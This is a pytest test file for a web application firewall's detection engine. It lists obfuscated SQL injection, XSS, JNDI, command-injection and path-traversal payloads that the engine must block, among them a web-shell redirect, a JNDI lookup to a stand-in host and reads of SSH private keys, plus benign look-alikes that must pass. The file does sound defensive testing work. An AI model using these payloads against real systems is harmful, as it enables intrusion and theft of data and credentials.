"""Unit: attack shapes first met in nemesida's waf-bypass payloads and the CRS v4 regression cases (split fresh8), and
the benign values a rule must let through. Every case goes through the whole engine (decoders, prefilter, analysers),
with other values than the corpus uses."""

from __future__ import annotations

import pytest

from bastion.detection import Context, Engine
from bastion.detection.decode import percent_decode, variants

BODY = Context("body", "comment")
QUERY = Context("query", "q")
AGENT = Context("header", "user-agent")



ATTACKS: dict[str, tuple[str, Context, str]] = {
    # decoding: invisible format characters, one layer of backslash escaping, overlong UTF-8 of any ASCII character
    "sqli_keywords_split_by_zero_width_joiner": ("7' uni\u200don all sel\u200dect null,null--", BODY, "sqli"),
    "xss_tag_split_by_word_joiner": ("<\u2060base href=//oast.example/>", BODY, "xss"),
    "jndi_escaped_braces_around_nested_lookup": ("$\\{$\\{::-j\\}ndi:iiop://oast.example/a\\}", AGENT, "jndi"),
    "sqli_escaped_quote_before_xor_sleep": ("x\\\"XOR(if(1=1,sleep(4),0))XOR\\\"y", BODY, "sqli"),
    "cmdi_overlong_space_and_slash": ("%3Bid%c0%a0%c0%afbin%c0%afsh", BODY, "cmdi"),
    # SQL: string-literal concatenation splitting keywords, comments glued to keywords, file writes, catalogue names
    "sqli_union_cut_into_concatenated_literals": ("0\" un\"+\"ion sel\"+\"ect user,2--", QUERY, "sqli"),
    "sqli_union_cut_with_oracle_concat": ("1' un'||'ion sel'||'ect banner from v$version--", QUERY, "sqli"),
    "sqli_comment_glued_to_delete": ("delete/*x*/from/*y*/sessions", BODY, "sqli"),
    "sqli_keyword_split_by_empty_comment": ("UP/**/DATE/*z*/accounts SET role=1", BODY, "sqli"),
    "sqli_comment_close_glued_to_keyword": ("pw*/from users", QUERY, "sqli"),
    "sqli_into_outfile": ("x into outfile '/tmp/o'", BODY, "sqli"),
    "sqli_catalogue_in_backticks": ("from `information_schema`.`columns`", QUERY, "sqli"),
    "sqli_catalogue_without_quote": ("FROM INFORMATION_SCHEMA.ROUTINES", QUERY, "sqli"),
    "sqli_exec_master_dot": ("exec master..fn_get_sql(0x1)", BODY, "sqli"),
    "sqli_bare_union_select_probe": ("union all select", QUERY, "sqli"),
    "sqli_quote_union_select_stray_punctuation": ("\"union select;)", QUERY, "sqli"),
    "sqli_query_around_subquery": ("select 1 from (select count(*) from t) x", BODY, "sqli"),
    "sqli_drop_then_comment": ("truncate audit_log;#", BODY, "sqli"),
    "sqli_value_equal_to_itself_then_or": ("7='7' or#", QUERY, "sqli"),
    "sqli_quote_semicolon_select_cut_short": ("\";select version", QUERY, "sqli"),
    # XSS: CSS hex escapes, a namespaced script element, a quote then a handler or form action still to come
    "xss_css_hex_escaped_javascript_url": (
        "<div style=\"background:url('\\6a\\61\\76\\61\\73\\63\\72\\69\\70\\74:confirm(2)')\">", BODY, "xss"),
    "xss_css_hex_escaped_expression": ("<style>p{width:\\65 xpression(confirm(1))}</style>", BODY, "xss"),
    "xss_namespaced_script_element": ("<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">confirm(9)</h:script>",
                                      BODY, "xss"),
    "xss_quote_then_unknown_handler_probe": ("\"oncommand=", QUERY, "xss"),
    "xss_quote_then_srcdoc_probe": ("\" srcdoc=", QUERY, "xss"),
    # commands: brace lists obfuscated with quotes, here-strings to the shell, redirections, Node's child_process
    "cmdi_brace_list_with_empty_quotes": ("{w''h\"\"oami,}", BODY, "cmdi"),
    "cmdi_brace_list_with_backslashes_after_separator": ("| {\\u\\n\\a\\m\\e,-a}", BODY, "cmdi"),
    "cmdi_here_string_to_zsh": ("zsh <<< 'id'", BODY, "cmdi"),
    "cmdi_here_string_to_dollar_zero": ("$0<<<$'\\151\\144'", QUERY, "cmdi"),
    "cmdi_redirect_creates_web_shell": (">>/var/www/html/x.php", QUERY, "cmdi"),
    "cmdi_node_child_process_spawn": ("require('node:child_process').spawnSync('id')", BODY, "cmdi"),
    "cmdi_node_main_module_require": ("process.mainModule.require('fs')", BODY, "cmdi"),
    # files: a private key relative to a home directory, the user-namespace account files
    "traversal_relative_ssh_private_key": (".ssh/id_ecdsa", QUERY, "traversal"),
    "traversal_authorized_keys_after_equals": ("file=.ssh/authorized_keys", QUERY, "traversal"),
    "traversal_etc_subgid_in_a_command": ("cp /etc/subgid /tmp/x", BODY, "traversal"),
}


@pytest.mark.parametrize(("value", "ctx", "rule"), ATTACKS.values(), ids=ATTACKS.keys())
def test_fresh8_shape_is_blocked(engine: Engine, value: str, ctx: Context, rule: str) -> None:
    found = engine.inspect(value, ctx)
    assert found is not None and found.rule.attack == rule


BENIGN: dict[str, tuple[str, Context]] = {
    # decoding layers that turn nothing into an attack
    "emoji_with_zero_width_joiner": ("Great job team \U0001f468\u200d\U0001f4bb\U0001f44f", BODY),
    "persian_with_zero_width_non_joiner": ("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u0628\u0631\u0648\u0645",
                                           BODY),
    "json_text_with_escaped_quotes": ("{\\\"name\\\": \\\"O'Neil\\\", \\\"tags\\\": [\\\"a\\\", \\\"b\\\"]}", BODY),
    "regex_with_escaped_braces": ("^\\{\\d+\\}$", QUERY),
    # SQL-looking text that is not an injection
    "oracle_optimizer_hint_in_a_sample": ("SELECT/*+ INDEX(o idx_orders_date) */ id FROM orders", BODY),
    "c_comment_after_code": ("return total; /* from the cache */", BODY),
    "select_all_that_apply": ("Select (select all that apply) the sizes you need", BODY),
    "credit_union_select_card": ("Credit Union Select Rewards card", QUERY),
    "drop_in_prose": ("drop me a line; thanks", BODY),
    "quoted_list_item": ("\"red\", \"green\", \"blue\"", QUERY),
    # markup and CSS that runs nothing
    "css_escape_of_a_content_glyph": ("<style>.icon:before{content:'\\f101'}</style>", BODY),
    "xml_namespaced_element": ("<x:item xmlns:x=\"urn:example\">42</x:item>", BODY),
    "quoted_word_online": ("\"online\" or \"offline\"", QUERY),
    # shell-looking text that is not a command
    "brace_list_of_colours": ("{red,green,blue}", QUERY),
    "json_object_text": ("{\"a\":1,\"b\":[2,3]}", BODY),
    "node_import_in_code_sample": ("const { execFile } = require('child_process');\nexecFile(bin, args);", BODY),
    "markdown_quote_of_a_path": ("> /tmp is mounted noexec on our runners", BODY),
    "redirect_to_a_directory_only": (">/tmp", QUERY),
    "here_string_in_prose": ("use <<< to feed a string to read", BODY),
    # file names that are not secrets
    "ssh_public_key_name": (".ssh/id_ed25519.pub", QUERY),
    "ssh_dir_in_docs": ("Put the key in ~/.ssh and run ssh-add", BODY),
}


@pytest.mark.parametrize(("value", "ctx"), BENIGN.values(), ids=BENIGN.keys())
def test_benign_value_passes(engine: Engine, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is None


def test_overlong_utf8_decodes_to_the_ascii_character_it_spells() -> None:
    assert percent_decode("%c0%a0%c1%81%e0%80%af") == " A/"


def test_invisible_characters_and_one_escape_layer_are_extra_forms() -> None:
    assert "ab" in variants("a\u200bb")
    assert "say \"hi\"" in variants("say \\\"hi\\\"")
